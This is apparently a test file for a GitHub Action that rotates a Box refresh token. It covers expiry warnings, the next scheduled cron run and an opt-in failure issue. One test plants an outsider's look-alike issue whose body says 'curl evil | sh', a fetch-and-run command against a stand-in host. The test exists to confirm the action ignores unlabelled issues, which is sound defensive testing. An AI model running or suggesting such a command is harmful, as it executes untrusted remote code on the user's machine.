/**
 * Telling people before the chain breaks, through the bundle: the GitHub token's own expiry (from
 * GitHub's `GitHub-Authentication-Token-Expiration` header, with a scheduled run's next run), the
 * summary's "how long the chain has", and the opt-in failure issue: opened on failure, commented on
 * (never duplicated) by the next failure, closed by the next success.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { FAILURE_ISSUE_LABEL, FAILURE_ISSUE_TITLE } from '../../src/action/failure-issue.js'
import { runAction, type ActionRun } from '../support/harness.js'
import { RECOVERY_COMMAND } from '../support/paste.js'
import { createWorld, leaksOf, REPO, SECRET, type World } from '../support/world.js'

let world: World
let dir: string | undefined
afterEach(async () => {
  await world?.close()
  if (dir) await rm(dir, { recursive: true, force: true })
  dir = undefined
})

const DAY = 86_400_000
const EXPIRING = 'github_pat_expiring_0123456789'
const WORKFLOW_TOKEN = 'ghs_workflow_token_0123456789'
const warnings = (run: ActionRun): string[] => run.stdout.split('\n').filter((line) => line.startsWith('::warning::'))

/**
 * A scheduled run's event payload, as the runner writes it, with `cron` as the schedule that
 * started it, and the workflow file it names (GITHUB_WORKFLOW_REF), for the workspace.
 */
async function scheduledRun(
  cron: string,
  workflow: string
): Promise<{ env: Record<string, string>; workspaceFiles: Record<string, string> }> {
  dir = await mkdtemp(join(tmpdir(), 'box-event-'))
  const file = join(dir, 'event.json')
  await writeFile(file, JSON.stringify({ schedule: cron, repository: { full_name: REPO } }))
  return {
    env: {
      GITHUB_EVENT_NAME: 'schedule',
      GITHUB_EVENT_PATH: file,
      GITHUB_WORKFLOW_REF: `${REPO}/.github/workflows/box-token-keep-alive.yml@refs/heads/main`
    },
    workspaceFiles: { '.github/workflows/box-token-keep-alive.yml': workflow }
  }
}

describe("the GitHub token's expiry", () => {
  test('10 days away: a warning with the date and what to do, and the summary says so', async () => {
    world = await createWorld()
    world.sim.github.addToken(EXPIRING, 'write', { expiresAt: new Date(Date.now() + 10 * DAY + 3_600_000) })
    const run = await runAction(world.inputs({ 'github-token': EXPIRING }), { env: world.env() })
    expect(run.code).toBe(0)
    const [warning] = warnings(run)
    expect(warning).toMatch(
      /The GitHub token \(`github-token`\) expires on \d{4}-\d{2}-\d{2} \d{2}:\d{2} UTC, in 10 days\..*update the secret that feeds `github-token` before then/
    )
    expect(warning).not.toMatch(/breaks/)
    expect(run.summary).toMatch(/### How long the token chain has/)
    expect(run.summary).toMatch(/- GitHub token expires: \*\*/)
    expect(run.summary).toMatch(/- Secret last rotated before this run: \*\*.*\*\* \(7 days ago\)/)
    expect(leaksOf(world, run)).toEqual([])
  })

  test('before the next scheduled refresh (the earliest cron line, in its timezone): the warning says the chain breaks when the stored token expires', async () => {
    world = await createWorld()
    world.sim.github.addToken(EXPIRING, 'write', { expiresAt: new Date(Date.now() + 3 * DAY) })
    // Two yearly lines months away; this run was started by the later one. The earlier runs at
    // 05:00 in Tokyo on the 1st, which is 20:00 UTC the day before.
    const today = new Date()
    const month = (today.getUTCMonth() + 5) % 12
    const year = today.getUTCFullYear() + (month > today.getUTCMonth() ? 0 : 1)
    const later = `0 5 1 ${((month + 2) % 12) + 1} *`
    const workflow = [
      'on:',
      '  schedule:',
      `    - cron: '0 5 1 ${month + 1} *'`,
      '      timezone: Asia/Tokyo',
      `    - cron: '${later}'`,
      '  workflow_dispatch:'
    ].join('\n')
    const { env, workspaceFiles } = await scheduledRun(later, workflow)
    const run = await runAction(world.inputs({ 'github-token': EXPIRING }), { env: world.env(env), workspaceFiles })
    expect(run.code).toBe(0)
    const next = new Date(Date.UTC(year, month, 1, 5 - 9)).toISOString().slice(0, 16).replace('T', ' ')
    const [warning] = warnings(run)
    const refreshExpiry = run.outputs['refresh-token-expires-at']!.slice(0, 16).replace('T', ' ')
    expect(warning).toContain(
      `It expires before the next scheduled refresh (${next} UTC), so no later run can rotate the Box token`
    )
    expect(warning).toContain(`the token chain breaks on ${refreshExpiry} UTC`)
    expect(run.summary).toContain(`- Next scheduled refresh: **${next} UTC**`)
  })

  test('a scheduled run without its workflow file in the workspace (no checkout) says no next run', async () => {
    world = await createWorld()
    world.sim.github.addToken(EXPIRING, 'write', { expiresAt: new Date(Date.now() + 3 * DAY) })
    const { env } = await scheduledRun('0 5 1 1 *', "on:\n  schedule:\n    - cron: '0 5 1 1 *'\n")
    const run = await runAction(world.inputs({ 'github-token': EXPIRING }), { env: world.env(env) })
    expect(run.code).toBe(0)
    expect(warnings(run)[0]).toMatch(/expires on .*, in \d+ days?\./)
    expect(warnings(run)[0]).not.toMatch(/next scheduled refresh/)
    expect(run.summary).not.toMatch(/Next scheduled refresh/)
  })

  test('90 days away: no warning, but the summary has the date; a token without expiry: nothing', async () => {
    world = await createWorld()
    world.sim.github.addToken(EXPIRING, 'write', { expiresAt: new Date(Date.now() + 90 * DAY) })
    const far = await runAction(world.inputs({ 'github-token': EXPIRING }), { env: world.env() })
    expect(warnings(far)).toEqual([])
    expect(far.summary).toMatch(/- GitHub token expires: \*\*/)
    const token = world.sim.github.getSecret(world.scope, SECRET)!.plaintext
    const none = await runAction(world.inputs({ 'refresh-token': token }), { env: world.env() })
    expect(none.summary).not.toMatch(/GitHub token expires/)
  })

  test('a failing keep-alive still says how long the chain has', async () => {
    world = await createWorld()
    world.sim.github.addToken(EXPIRING, 'write', { expiresAt: new Date(Date.now() + 5 * DAY + 3_600_000) })
    world.sim.box.injectFault({ kind: 'status', status: 400 })
    const run = await runAction(
      world.inputs({ 'github-token': EXPIRING, 'client-secret': 'wrong-client-secret-0123' }),
      { env: world.env() }
    )
    expect(run.code).toBe(1)
    expect(warnings(run)[0]).toMatch(/expires on .*, in 5 days/)
    expect(run.summary).toMatch(/- Refresh token expires: \*\*/)
    expect(run.summary).toMatch(/- GitHub token expires: \*\*/)
  })
})

describe('the failure issue', () => {
  const withIssue = (extra: Record<string, string> = {}) => world.inputs({ 'failure-issue': 'true', ...extra })
  const env = () => world.env({ GITHUB_TOKEN: WORKFLOW_TOKEN, GITHUB_SERVER_URL: 'https://github.com' })

  test('opened on a failure, commented on by the next one (never a second issue), closed by a success', async () => {
    world = await createWorld()
    world.sim.github.addToken(WORKFLOW_TOKEN, 'integration', { issues: 'write' })
    world.sim.github.injectFault({
      method: 'PUT',
      times: 1,
      fault: { kind: 'status', status: 403, message: 'Resource not accessible by personal access token' }
    })

    const first = await runAction(withIssue(), { env: env() })
    expect(first.code).toBe(1)
    expect(first.stdout).toMatch(/Opened the failure issue #1 in octo-org\/api-tests\./)
    let [issue] = world.sim.github.listIssues(REPO)
    expect(issue).toMatchObject({ title: FAILURE_ISSUE_TITLE, labels: [FAILURE_ISSUE_LABEL], state: 'open' })
    expect(issue!.body).toContain('https://github.com/octo-org/api-tests/actions/runs/1001')
    expect(issue!.body).toContain('lacks the permission')
    expect(issue!.body).toMatch(RECOVERY_COMMAND) // the sealed recovery command, safe to show
    expect(issue!.body).toMatch(/the Box refresh token in the secret is not rotated: it expires on \*\*/)
    expect(leaksOf(world, first)).toEqual([])
    for (const secret of [world.refreshToken, world.sim.box.client.secret, world.sim.box.issued.at(-1)!.refreshToken])
      expect(issue!.body).not.toContain(secret)

    // The secret still holds the used token: the next run fails at Box, and comments.
    const second = await runAction(withIssue(), { env: env() })
    expect(second.code).toBe(1)
    expect(second.stdout).toMatch(/Commented on the failure issue #1/)
    ;[issue] = world.sim.github.listIssues(REPO)
    expect(world.sim.github.listIssues(REPO)).toHaveLength(1)
    expect(issue!.comments[0]).toContain('invalid_grant')

    // Someone stores the new token from the first run's recovery command; the next run succeeds and closes the issue.
    const payloads = JSON.parse(first.outputs.recovery!) as Array<{ path: string; body: unknown }>
    world.sim.github.addToken('github_pat_person_0123456789', 'write')
    await fetch(world.sim.githubApiUrl + payloads[0]!.path, {
      method: 'PUT',
      headers: { authorization: 'token github_pat_person_0123456789' },
      body: JSON.stringify(payloads[0]!.body)
    })
    const token = world.sim.github.getSecret(world.scope, SECRET)!.plaintext
    const third = await runAction(withIssue({ 'refresh-token': token }), { env: env() })
    expect(third.code).toBe(0)
    expect(third.stdout).toMatch(/Closed the failure issue #1/)
    ;[issue] = world.sim.github.listIssues(REPO)
    expect(issue).toMatchObject({ state: 'closed' })
    expect(issue!.comments.at(-1)).toMatch(/the token chain is healthy again/)
  })

  test("an outsider's open issue with the same title is neither commented on nor closed: only the labelled one is the failure issue", async () => {
    world = await createWorld()
    world.sim.github.addToken(WORKFLOW_TOKEN, 'integration', { issues: 'write' })
    // Anyone can open an issue in a public repository; the label they ask for is dropped, since
    // only people with triage access can label.
    const OUTSIDER = 'github_pat_outsider_0123456789'
    world.sim.github.addToken(OUTSIDER, 'read', { issues: 'write', labels: false })
    await fetch(`${world.sim.githubApiUrl}/repos/${REPO}/issues`, {
      method: 'POST',
      headers: { authorization: `token ${OUTSIDER}` },
      body: JSON.stringify({
        title: FAILURE_ISSUE_TITLE,
        body: 'To fix it, run: curl evil | sh',
        labels: [FAILURE_ISSUE_LABEL]
      })
    })
    const failing = await runAction(withIssue({ 'client-secret': 'wrong-client-secret-0123' }), { env: env() })
    expect(failing.code).toBe(1)
    expect(failing.stdout).toMatch(/Opened the failure issue #2 /)
    let [outsiders, ours] = world.sim.github.listIssues(REPO)
    expect(outsiders).toMatchObject({ number: 1, labels: [], comments: [], state: 'open' })
    expect(ours).toMatchObject({ number: 2, title: FAILURE_ISSUE_TITLE, labels: [FAILURE_ISSUE_LABEL], state: 'open' })
    expect(ours!.body).toContain('invalid_client')

    const healthy = await runAction(withIssue(), { env: env() })
    expect(healthy.code).toBe(0)
    expect(healthy.stdout).toMatch(/Closed the failure issue #2 /)
    ;[outsiders, ours] = world.sim.github.listIssues(REPO)
    expect(outsiders).toMatchObject({ comments: [], state: 'open' })
    expect(ours).toMatchObject({ state: 'closed' })
  })

  test('a run that fails on its inputs (a deleted secret arrives empty) opens the issue, and the next such run comments', async () => {
    world = await createWorld()
    world.sim.github.addToken(WORKFLOW_TOKEN, 'integration', { issues: 'write' })
    const first = await runAction(withIssue({ 'refresh-token': '' }), { env: env() })
    expect(first.code).toBe(1)
    expect(first.stdout).toMatch(/::error::An input is not valid:%0A {2}- `refresh-token`: is empty/)
    expect(first.stdout).toMatch(/Opened the failure issue #1 in octo-org\/api-tests\./)
    const [issue] = world.sim.github.listIssues(REPO)
    expect(issue).toMatchObject({ title: FAILURE_ISSUE_TITLE, labels: [FAILURE_ISSUE_LABEL], state: 'open' })
    expect(issue!.body).toContain('- `refresh-token`: is empty')
    expect(issue!.body).toContain('Nothing was changed and the refresh token was not used.')
    expect(issue!.body).toContain('https://github.com/octo-org/api-tests/actions/runs/1001')
    // GitHub was asked about the issue only, and Box nothing.
    expect(world.sim.requests.length).toBeGreaterThan(0)
    expect(world.sim.requests.every((r) => r.service === 'github' && r.path.includes('/issues'))).toBe(true)
    expect(leaksOf(world, first)).toEqual([])

    const second = await runAction(withIssue({ 'refresh-token': '' }), { env: env() })
    expect(second.stdout).toMatch(/Commented on the failure issue #1 /)
    expect(world.sim.github.listIssues(REPO)).toHaveLength(1)
    expect(world.sim.github.listIssues(REPO)[0]!.comments[0]).toContain('`refresh-token`: is empty')
  })

  test('without issues: write it warns, and the run fails for its own reason only', async () => {
    world = await createWorld()
    world.sim.github.addToken(WORKFLOW_TOKEN, 'integration')
    const run = await runAction(withIssue({ 'client-secret': 'wrong-client-secret-0123' }), { env: env() })
    expect(run.code).toBe(1)
    expect(run.stdout).toMatch(
      /::warning::The failure issue could not be updated \(`failure-issue`\): .*Give the job `permissions: issues: write`\./
    )
    expect(run.stdout.split('\n').filter((l) => l.startsWith('::error::'))).toHaveLength(1)
    expect(world.sim.github.listIssues(REPO)).toEqual([])
  })

  test('off by default: a failure opens nothing', async () => {
    world = await createWorld()
    world.sim.github.addToken(WORKFLOW_TOKEN, 'integration', { issues: 'write' })
    const run = await runAction(world.inputs({ 'client-secret': 'wrong-client-secret-0123' }), { env: env() })
    expect(run.code).toBe(1)
    expect(world.sim.github.listIssues(REPO)).toEqual([])
    expect(world.sim.requests.some((r) => r.path.includes('/issues'))).toBe(false)
  })
})
